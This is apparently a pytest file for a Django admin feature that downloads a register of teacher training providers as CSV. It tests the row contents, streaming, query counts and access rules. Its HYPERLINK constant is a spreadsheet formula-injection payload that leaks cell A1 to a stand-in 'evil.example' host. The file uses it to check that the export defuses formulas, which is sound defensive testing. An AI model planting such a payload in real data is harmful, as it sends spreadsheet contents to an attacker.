"""Downloading the register from the providers list: every provider on it (archived ones included,
deleted ones never), one row each, field for field as the database has them; streamed, read a batch
at a time, defused against formulas, and only for those who may see the list."""

import csv
import datetime
import io

import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse
from django.utils import timezone

from registry.models import Provider
from registry.provider_export import HEADER
from registry.selectors import provider_export_rows, provider_list
from tests.factories import (
    AccreditationFactory,
    AccreditedProviderFactory,
    AddressFactory,
    ApiUserFactory,
    ArchivedProviderFactory,
    AuditorFactory,
    HeiProviderFactory,
    ProviderFactory,
    SupportEditorFactory,
    SupportViewerFactory,
    UserFactory,
)
from tests.registry.admin.conftest import provider_url, signed_in

pytestmark = pytest.mark.django_db

DOWNLOAD_URL = provider_url("download")
LIST_URL = provider_url("changelist")
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click here")'
FULL_WIDTH = "＝1+2 Teaching School"


def read_csv(response) -> list[list[str]]:
    """The file as a spreadsheet would read it, checked to be UTF-8 with a byte order mark and CRLF lines."""
    assert isinstance(response, StreamingHttpResponse)
    content = b"".join(response.streaming_content)
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.endswith(b"\r\n")
    assert b"\n" not in content.replace(b"\r\n", b""), "every line ends in CRLF"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _date(value) -> str:
    return value.isoformat() if value else ""


def expected_row(provider: Provider, today: datetime.date) -> list[str]:
    """The provider's row, worked out from its records with the ORM (not through the export's selector)."""
    current = [
        accreditation
        for accreditation in provider.accreditations.filter(deleted_at__isnull=True)
        if accreditation.starts_on <= today and (accreditation.ends_on is None or accreditation.ends_on >= today)
    ]
    accreditation = max(current, key=lambda each: each.starts_on) if current else None
    addresses = sorted(provider.addresses.filter(deleted_at__isnull=True), key=lambda each: each.created_at)
    address = addresses[0] if addresses else None
    years = sorted(year.start_year for year in provider.academic_years.all())
    return [
        provider.register_id,
        provider.operating_name,
        provider.legal_name,
        provider.get_provider_type_display(),
        provider.get_accreditation_status_display(),
        provider.code,
        provider.ukprn,
        provider.urn,
        "Archived" if provider.archived_at else "Not archived",
        _date(provider.onboarded_on),
        _date(provider.first_active_on),
        *(
            [accreditation.number, _date(accreditation.starts_on), _date(accreditation.ends_on)]
            if accreditation
            else ["", "", ""]
        ),
        *(
            [
                address.address_line_1,
                address.address_line_2,
                address.address_line_3,
                address.town_or_city,
                address.county,
                address.postcode,
            ]
            if address
            else [""] * 6
        ),
        "; ".join(f"{year} to {year + 1}" for year in years),
    ]


@pytest.fixture
def register():
    """Providers of every kind the file must get right, and one deleted, which it must leave out."""
    now = timezone.now()
    scitt = AccreditedProviderFactory(operating_name="Oakwood SCITT", legal_name="Oakwood Trust", accreditation=False)
    AccreditationFactory(
        provider=scitt, number="5001", starts_on=datetime.date(2019, 8, 1), ends_on=datetime.date(2021, 7, 31)
    )
    AccreditationFactory(
        provider=scitt, number="5002", starts_on=datetime.date(2024, 8, 1), ends_on=datetime.date(2099, 7, 31)
    )
    AccreditationFactory(provider=scitt, number="5003", starts_on=datetime.date(2025, 8, 1), deleted_at=now)
    AddressFactory(
        provider=scitt, address_line_1="0 Gone Road", created_at=now - datetime.timedelta(days=3), deleted_at=now
    )
    AddressFactory(
        provider=scitt,
        address_line_1="1 Tile Kiln Lane",
        address_line_2="Palmers Green",
        address_line_3="Enfield",
        town_or_city="London",
        county="Greater London",
        postcode="N13 6BY",
        created_at=now - datetime.timedelta(days=2),
    )
    AddressFactory(provider=scitt, address_line_1="2 Second Street", created_at=now - datetime.timedelta(days=1))
    providers = {
        "scitt": scitt,
        "archived": ArchivedProviderFactory(operating_name="Archived Academy", academic_years=[2022, 2023]),
        "hei": HeiProviderFactory(
            operating_name="University of Leeds", onboarded_on=None, first_active_on=None, academic_years=[]
        ),
        "formula": ProviderFactory(operating_name=HYPERLINK, legal_name="+44 20 7946 0000"),
        "full_width": ProviderFactory(operating_name=FULL_WIDTH),
    }
    ProviderFactory(operating_name="Deleted Teaching School", deleted=True)
    return providers


def test_the_file_has_every_provider_on_the_register_field_for_field(viewer_client, register):
    response = viewer_client.get(DOWNLOAD_URL)

    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate()
    assert (
        response["Content-Disposition"] == f'attachment; filename="register-of-training-providers-{today:%Y-%m-%d}.csv"'
    )
    header, *rows = read_csv(response)
    assert header == list(HEADER)
    kept = Provider.objects.filter(deleted_at__isnull=True)
    expected = {provider.register_id: expected_row(provider, today) for provider in kept}
    # Formulas are defused: the cell starts with a quote, and reads back with it.
    expected[register["formula"].register_id][1] = "'" + HYPERLINK
    expected[register["formula"].register_id][2] = "'+44 20 7946 0000"
    expected[register["full_width"].register_id][1] = "'" + FULL_WIDTH
    assert {row[0]: row for row in rows} == expected
    assert len(rows) == len(expected) == 5
    # In the list's order (by operating name), archived providers among the others.
    assert [row[0] for row in rows] == [provider.register_id for provider in provider_list(include_archived=True)]


def test_what_the_file_says_of_each_kind_of_provider(viewer_client, register):
    rows = {row[0]: dict(zip(HEADER, row, strict=True)) for row in read_csv(viewer_client.get(DOWNLOAD_URL))[1:]}

    scitt = rows[register["scitt"].register_id]
    assert scitt["Operating name"] == "Oakwood SCITT"
    assert scitt["Provider type"] == "School-centred initial teacher training (SCITT)"
    assert scitt["Accreditation status"] == "Accredited"
    assert scitt["Status"] == "Not archived"
    # The current accreditation (not the one that ended, nor the deleted one); the first address still kept.
    assert (scitt["Accreditation number"], scitt["Accreditation start date"], scitt["Accreditation end date"]) == (
        "5002",
        "2024-08-01",
        "2099-07-31",
    )
    assert [scitt[column] for column in HEADER[14:20]] == [
        "1 Tile Kiln Lane",
        "Palmers Green",
        "Enfield",
        "London",
        "Greater London",
        "N13 6BY",
    ]
    archived = rows[register["archived"].register_id]
    assert archived["Status"] == "Archived"
    assert archived["Academic years"] == "2022 to 2023; 2023 to 2024"
    hei = rows[register["hei"].register_id]
    assert (hei["URN"], hei["Onboarded on"], hei["Academic years"], hei["Accreditation number"]) == ("", "", "", "")
    assert rows[register["formula"].register_id]["Operating name"] == "'" + HYPERLINK
    assert rows[register["full_width"].register_id]["Operating name"] == "'＝1+2 Teaching School"
    assert "Deleted Teaching School" not in str(rows)


def test_an_empty_register_is_the_header_alone(viewer_client):
    assert read_csv(viewer_client.get(DOWNLOAD_URL)) == [list(HEADER)]


def test_the_selector_reads_a_batch_at_a_time_and_nothing_before_the_first_row(register, django_assert_num_queries):
    with django_assert_num_queries(0):
        rows = provider_export_rows(batch_size=2)
    # 5 providers in batches of 2: the providers' cursor, then each batch's accreditations, addresses and years.
    with django_assert_num_queries(1 + 3 * 3):
        exported = list(rows)
    assert len(exported) == 5
    with django_assert_num_queries(1 + 3):
        assert list(provider_export_rows()) == exported


def test_the_download_costs_a_few_queries_whatever_the_number_of_providers(
    viewer_client, django_assert_max_num_queries
):
    ProviderFactory.create_batch(30)
    # Signing in, the session and the permission check, then the export's four queries.
    with django_assert_max_num_queries(8):
        response = viewer_client.get(DOWNLOAD_URL)
        assert len(read_csv(response)) == 31


@pytest.mark.parametrize("factory", [SupportViewerFactory, SupportEditorFactory], ids=["viewer", "editor"])
def test_whoever_may_see_the_list_may_download_the_register(factory):
    assert signed_in(factory()).get(DOWNLOAD_URL).status_code == 200


def test_the_administrator_may_download_it(administrator_client):
    assert administrator_client.get(DOWNLOAD_URL).status_code == 200


@pytest.mark.parametrize("factory", [AuditorFactory, UserFactory], ids=["auditor", "no role"])
def test_those_who_may_not_see_the_list_are_refused(factory, register):
    response = signed_in(factory()).get(DOWNLOAD_URL)

    assert response.status_code == 403
    assert b"Oakwood" not in (b"".join(response.streaming_content) if response.streaming else response.content)


def test_someone_signed_out_is_sent_to_sign_in(client):
    response = client.get(DOWNLOAD_URL)

    assert response.status_code == 302
    assert "download" in response["Location"]


@pytest.mark.parametrize(
    "factory",
    [ApiUserFactory, lambda: SupportViewerFactory(is_active=False)],
    ids=["API user", "inactive viewer"],
)
def test_accounts_that_may_not_use_the_pages_are_sent_to_sign_in(factory, register):
    response = signed_in(factory()).get(DOWNLOAD_URL)

    assert response.status_code == 302
    assert response["Location"].startswith(("/personas/", "/admin/login/"))


def test_the_list_offers_the_download(viewer_client):
    page = viewer_client.get(LIST_URL).content.decode()

    url = reverse("admin:registry_provider_download")
    assert f'<a class="app-link" href="{url}" download>Download the register (CSV)</a>' in page
    assert "Every provider on the register, including archived ones." in page


def test_the_download_takes_no_post(viewer_client):
    assert viewer_client.post(DOWNLOAD_URL).status_code == 405
